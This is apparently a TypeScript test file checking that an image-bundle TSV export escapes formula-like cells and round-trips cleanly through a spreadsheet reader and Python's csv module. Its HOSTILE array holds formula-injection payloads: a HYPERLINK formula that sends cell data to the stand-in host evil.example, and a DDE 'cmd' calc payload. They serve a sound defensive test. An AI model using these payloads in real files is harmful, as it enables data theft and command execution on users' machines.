/**
 * Exports that no reader misreads (issue 9): bundle cells that look like formulas or start with a
 * quote come out escaped, every row stays one row for Python's csv module and for a spreadsheet's
 * TSV import, the values read back exactly, and EOL's safe columns are byte-identical.
 */
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readTsvCell } from '../../../src-shared/domain/tsv';
import { createCore, type Core } from '../app';
import { DEV_IMAGES, DEV_URL_PREFIX, devRatings, tempDir } from '../../../test-support/fixtures';
import { readLikeSpreadsheet } from '../../../test-support/spreadsheetTsv';
import { exportBundle } from './tags';

const PYTHON = ['/usr/bin/python3', 'python3'].find((p) => spawnSync(p, ['-c', 'import csv'], { stdio: 'ignore' }).status === 0);

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '"a title that starts with a quote',
  'a "quoted" word inside',
  "' =cmd|' /C calc'!A0",
  '-0.5',
];

describe('exported TSVs', () => {
  let dir: string;
  let core: Core;
  let bundleId: number;
  let rows: { url: string; id: string; ancestry: string; title: string }[];

  beforeAll(async () => {
    dir = tempDir();
    core = createCore({ dataDir: path.join(dir, 'data') });
    rows = devRatings()
      .slice(0, HOSTILE.length)
      .map(([id, url, , ancestry], i) => ({ url, id, ancestry: ancestry === '{}' ? '{"kingdom":{"name":"Animalia"}}' : ancestry, title: HOSTILE[i]! }));
    const bundle = path.join(dir, 'bundle.tsv');
    fs.writeFileSync(bundle, ['eolMediaURL\tidentifier\tancestry\ttitle', ...rows.map((r) => `${r.url}\t${r.id}\t${r.ancestry}\t${r.title}`)].join('\n') + '\n');
    const s = await core.call('library.import', { source: bundle, mirrors: [{ prefix: DEV_URL_PREFIX, dir: DEV_IMAGES }] });
    expect(s.failed).toBe(0);
    bundleId = s.bundle_id!;
  });
  afterAll(async () => {
    await core?.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  const files = async () => (await exportBundle(core.context.db, { bundleId, runId: null, threshold: 0.5, outDir: path.join(dir, 'out') })).files;

  it('open in a spreadsheet as one row per image with no formula, and read back exactly', async () => {
    for (const file of await files()) {
      const text = fs.readFileSync(file, 'utf8');
      const sheet = readLikeSpreadsheet(text);
      expect(sheet, file).toHaveLength(rows.length + 1);
      const header = sheet[0]!.map((c) => c.text);
      const title = header.indexOf('title');
      sheet.slice(1).forEach((cells, i) => {
        expect(cells.filter((c) => c.formula).map((c) => c.text)).toEqual([]);
        expect(readTsvCell(cells[title]!.text)).toBe(rows[i]!.title);
      });
    }
  });

  it("keep EOL's safe columns byte-identical (URLs, ids, ancestry JSON)", async () => {
    const lines = fs.readFileSync((await files()).at(-1)!, 'utf8').trimEnd().split('\n');
    const header = lines[0]!.split('\t');
    lines.slice(1).forEach((l, i) => {
      const cells = l.split('\t');
      expect(cells[header.indexOf('eolMediaURL')]).toBe(rows[i]!.url);
      expect(cells[header.indexOf('identifier')]).toBe(rows[i]!.id);
      expect(cells[header.indexOf('ancestry')]).toBe(rows[i]!.ancestry);
    });
  });

  it.skipIf(!PYTHON)("round-trip through Python's csv module (excel-tab dialect)", async () => {
    const script = [
      'import csv, json, sys',
      "with open(sys.argv[1], newline='', encoding='utf-8') as f:",
      "    print(json.dumps(list(csv.reader(f, dialect='excel-tab'))))",
    ].join('\n');
    for (const file of await files()) {
      const out = spawnSync(PYTHON!, ['-c', script, file], { encoding: 'utf8' });
      expect(out.status, out.stderr).toBe(0);
      const table = JSON.parse(out.stdout) as string[][];
      expect(table).toHaveLength(rows.length + 1);
      const header = table[0]!;
      table.slice(1).forEach((cells, i) => {
        expect(cells).toHaveLength(header.length);
        expect(readTsvCell(cells[header.indexOf('title')]!)).toBe(rows[i]!.title);
        expect(cells[header.indexOf('ancestry')]).toBe(rows[i]!.ancestry);
        expect(cells[header.indexOf('eolMediaURL')]).toBe(rows[i]!.url);
      });
    }
  });
});
